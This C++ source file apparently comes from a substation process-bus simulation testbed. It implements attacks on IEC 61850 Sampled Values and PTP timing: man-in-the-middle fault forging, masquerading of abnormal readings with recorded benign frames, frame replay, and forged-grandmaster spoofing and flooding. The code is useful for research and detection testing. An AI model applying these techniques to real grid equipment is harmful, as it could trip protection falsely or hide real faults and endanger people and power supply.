#include "procbus/attack.hpp"

#include <algorithm>
#include <cmath>

namespace procbus {

namespace {

bool matches(const SvFrame& frame, const TargetMatch& target) {
  return frame.asdu.sv_id == target.sv_id && frame.appid == target.appid;
}

int32_t clamp_count(double value, int32_t lo, int32_t hi) {
  double v = std::llround(value);
  v = std::max(v, double(lo));
  v = std::min(v, double(hi));
  v = std::max(v, double(std::numeric_limits<int32_t>::min()));
  v = std::min(v, double(std::numeric_limits<int32_t>::max()));
  return int32_t(v);
}

std::vector<TapOutput> pass_through(const FrameEnvelope& env) {
  std::vector<TapOutput> out;
  out.push_back({env.bytes, 0});
  return out;
}

}  // namespace

// ---------------------------------------------------------------------------
// Algorithm: force the action. Channel values are scaled toward the forged
// fault profile; because the source is sinusoidal, per-channel scaling
// yields a phase-coherent, physically consistent fault waveform.

TapHandler make_mitm_force(ForceParams params, EventLog* log) {
  struct State {
    ForceParams params;
    EventLog* log;
    uint64_t modified = 0;
  };
  auto state = std::make_shared<State>(State{std::move(params), log, 0});

  return [state](const FrameEnvelope& env) -> std::vector<TapOutput> {
    const ForceParams& p = state->params;
    if (env.timestamp_us < p.active_from_us || env.timestamp_us >= p.active_until_us)
      return pass_through(env);

    SvFrame frame;
    if (decode_sv(env.bytes, frame) != SvDecodeStatus::Ok || !matches(frame, p.target))
      return pass_through(env);

    const double alpha =
        p.ramp <= 0 ? 1.0
                    : std::min(1.0, double(state->modified + 1) / double(p.ramp));
    for (int ch = 0; ch < kSvChannelCount; ++ch) {
      const double orig = frame.asdu.channels[ch].value;
      const double forged = orig * p.scale[ch];
      frame.asdu.channels[ch].value =
          clamp_count(orig + alpha * (forged - orig), p.limit_min, p.limit_max);
    }
    ++state->modified;

    if (state->log)
      state->log->record(env.timestamp_us, "attack/force", "modify",
                         {{"smp_cnt", frame.asdu.smp_cnt}});

    std::vector<TapOutput> out;
    out.push_back({{}, 0});
    encode_sv(frame, out.back().bytes);
    return out;
  };
}

// ---------------------------------------------------------------------------
// Algorithm: masquerade data. Record one ring of benign frames, then swap
// live payloads for recorded ones whenever the live signal leaves the
// normal envelope. Live headers and counters are kept so the stream stays
// seamless downstream.

TapHandler make_mitm_masquerade(MasqueradeParams params, EventLog* log) {
  struct Baseline {
    uint16_t smp_cnt;
    std::array<ChannelSample, kSvChannelCount> channels;
  };
  struct State {
    MasqueradeParams params;
    EventLog* log;
    std::vector<Baseline> base;
    bool learned = false;
    bool warned = false;
    std::deque<double> env_i[3];
    std::deque<double> env_v[3];
  };
  auto state = std::make_shared<State>();
  state->params = std::move(params);
  state->log = log;

  return [state](const FrameEnvelope& env) -> std::vector<TapOutput> {
    const MasqueradeParams& p = state->params;
    if (env.timestamp_us < p.active_from_us || env.timestamp_us >= p.active_until_us)
      return pass_through(env);

    SvFrame frame;
    if (decode_sv(env.bytes, frame) != SvDecodeStatus::Ok || !matches(frame, p.target))
      return pass_through(env);

    // Trailing-cycle peak estimate from the live (pre-substitution) data.
    ScaleConvention scale;
    bool exceeded = false;
    for (int ph = 0; ph < 3; ++ph) {
      const double i = std::abs(dequantize(frame.asdu.channels[ph].value, scale.current_scale));
      const double v = std::abs(dequantize(frame.asdu.channels[4 + ph].value, scale.voltage_scale));
      auto push = [&](std::deque<double>& w, double x) {
        w.push_back(x);
        if (w.size() > size_t(p.envelope_window)) w.pop_front();
      };
      push(state->env_i[ph], i);
      push(state->env_v[ph], v);
      const double peak_i = *std::max_element(state->env_i[ph].begin(), state->env_i[ph].end());
      const double peak_v = *std::max_element(state->env_v[ph].begin(), state->env_v[ph].end());
      if (peak_i > p.i_max || peak_v < p.v_min) exceeded = true;
    }

    if (!state->learned) {
      state->base.push_back({frame.asdu.smp_cnt, frame.asdu.channels});
      if (state->base.size() >= size_t(p.baseline_capacity)) {
        state->learned = true;
        if (state->log)
          state->log->record(env.timestamp_us, "attack/masquerade", "baseline_ready",
                             {{"frames", state->base.size()}});
      }
      if (exceeded && !state->warned) {
        state->warned = true;
        if (state->log)
          state->log->record(env.timestamp_us, "attack/masquerade", "warning",
                             {{"detail", "substitution demanded before learning completed"}});
      }
      return pass_through(env);
    }

    if (!exceeded) return pass_through(env);

    // Ring index aligned on the counter so consecutive substitutions cycle
    // through the recorded cycle in phase with the live stream.
    const uint16_t cnt0 = state->base.front().smp_cnt;
    const size_t idx = size_t((frame.asdu.smp_cnt + kSmpCntModulus - cnt0) % kSmpCntModulus) %
                       state->base.size();
    for (int ch = 0; ch < kSvChannelCount; ++ch)
      frame.asdu.channels[ch].value = state->base[idx].channels[ch].value;

    if (state->log)
      state->log->record(env.timestamp_us, "attack/masquerade", "substitute",
                         {{"smp_cnt", frame.asdu.smp_cnt}, {"base_idx", idx}});

    std::vector<TapOutput> out;
    out.push_back({{}, 0});
    encode_sv(frame, out.back().bytes);
    return out;
  };
}

// ---------------------------------------------------------------------------
// Algorithm: parallel forged stream.

ReplayAttacker::ReplayAttacker(Fabric& fabric, PortId port, ReplayParams params,
                               EventLog* log)
    : fabric_(fabric), port_(port), params_(std::move(params)), log_(log) {}

void ReplayAttacker::on_frame(const FrameEnvelope& env) {
  SvFrame frame;
  if (decode_sv(env.bytes, frame) != SvDecodeStatus::Ok) return;
  if (!matches(frame, params_.target)) return;
  buffer_.push_back(std::move(frame));
  while (buffer_.size() > size_t(params_.capture_capacity)) buffer_.pop_front();
}

void ReplayAttacker::start() {
  if (log_)
    log_->record(fabric_.now(), "attack/replay", "params",
                 {{"replay_rate_s", params_.replay_rate_s},
                  {"replay_len", params_.replay_len},
                  {"value_scale", params_.value_scale}});
  schedule_trigger(params_.active_from_us);
}

void ReplayAttacker::schedule_trigger(uint64_t at_us) {
  if (at_us >= params_.active_until_us) return;
  fabric_.schedule(at_us, [this, at_us]() {
    burst(at_us);
    schedule_trigger(at_us + uint64_t(std::llround(params_.replay_rate_s * 1e6)));
  });
}

void ReplayAttacker::burst(uint64_t t_us) {
  if (params_.replay_len <= 0) return;
  if (buffer_.empty()) {
    if (log_)
      log_->record(t_us, "attack/replay", "burst_skipped", {{"reason", "empty buffer"}});
    return;
  }

  const size_t n = std::min(size_t(params_.replay_len), buffer_.size());
  const size_t first = buffer_.size() - n;
  for (size_t k = 0; k < n; ++k) {
    SvFrame frame = buffer_[first + k];  // captured headers and smpCnt kept
    for (auto& ch : frame.asdu.channels)
      ch.value = clamp_count(double(ch.value) * params_.value_scale,
                             std::numeric_limits<int32_t>::min(),
                             std::numeric_limits<int32_t>::max());
    std::vector<uint8_t> bytes;
    encode_sv(frame, bytes);
    fabric_.send(std::move(bytes), port_, t_us + k * params_.frame_spacing_us);
  }
  ++bursts_;
  if (log_)
    log_->record(t_us, "attack/replay", "burst",
                 {{"frames", n}, {"first_smp_cnt", buffer_[first].asdu.smp_cnt}});
}

// ---------------------------------------------------------------------------
// Algorithm: PTP spoof / flood.

const char* to_string(PtpAttackParams::Mode mode) {
  switch (mode) {
    case PtpAttackParams::Mode::Throttle: return "throttle";
    case PtpAttackParams::Mode::Inject: return "inject";
    case PtpAttackParams::Mode::Both: return "both";
  }
  return "?";
}

PtpAttacker::PtpAttacker(Fabric& fabric, PortId port, PtpAttackParams params,
                         Grandmaster* gm, EventLog* log)
    : fabric_(fabric), port_(port), params_(std::move(params)), gm_(gm), log_(log) {}

void PtpAttacker::start() {
  const bool throttles = params_.mode != PtpAttackParams::Mode::Inject;
  const bool injects = params_.mode != PtpAttackParams::Mode::Throttle;

  if (throttles && gm_) {
    fabric_.schedule(params_.active_from_us, [this]() {
      saved_sync_interval_ = gm_->config().sync_interval_s;
      saved_announce_interval_ = gm_->config().announce_interval_s;
      gm_->set_sync_interval(params_.throttle_interval_s);
      gm_->set_announce_interval(params_.throttle_interval_s);
      if (log_)
        log_->record(fabric_.now(), "attack/ptp", "throttle",
                     {{"interval_s", params_.throttle_interval_s}});
    });
    if (params_.active_until_us != std::numeric_limits<uint64_t>::max()) {
      fabric_.schedule(params_.active_until_us, [this]() {
        gm_->set_sync_interval(saved_sync_interval_);
        gm_->set_announce_interval(saved_announce_interval_);
        if (log_) log_->record(fabric_.now(), "attack/ptp", "throttle_restored", {});
      });
    }
  }
  if (injects) schedule_inject(params_.active_from_us);
}

void PtpAttacker::schedule_inject(uint64_t at_us) {
  if (at_us >= params_.active_until_us) return;
  fabric_.schedule(at_us, [this, at_us]() {
    inject_burst(at_us);
    schedule_inject(at_us + uint64_t(std::llround(params_.inject_rate_s * 1e6)));
  });
}

void PtpAttacker::inject_burst(uint64_t t_us) {
  const Mac src = {0x02, 0x00, 0x00, 0x00, 0x00, 0xEE};
  for (int k = 0; k < params_.inject_len; ++k) {
    PtpMessage msg;
    msg.msg_type = (k % 2 == 0) ? PtpMsgType::Announce : PtpMsgType::Sync;
    msg.grandmaster_id = params_.forged_master_id;
    msg.priority = params_.forged_priority;
    msg.seq = msg.msg_type == PtpMsgType::Announce ? announce_seq_++ : sync_seq_++;
    msg.origin_timestamp_us = t_us;
    fabric_.send(encode_ptp(msg, src), port_, t_us + uint64_t(k) * 100);
  }
  if (log_)
    log_->record(t_us, "attack/ptp", "inject_burst", {{"messages", params_.inject_len}});
}

}  // namespace procbus
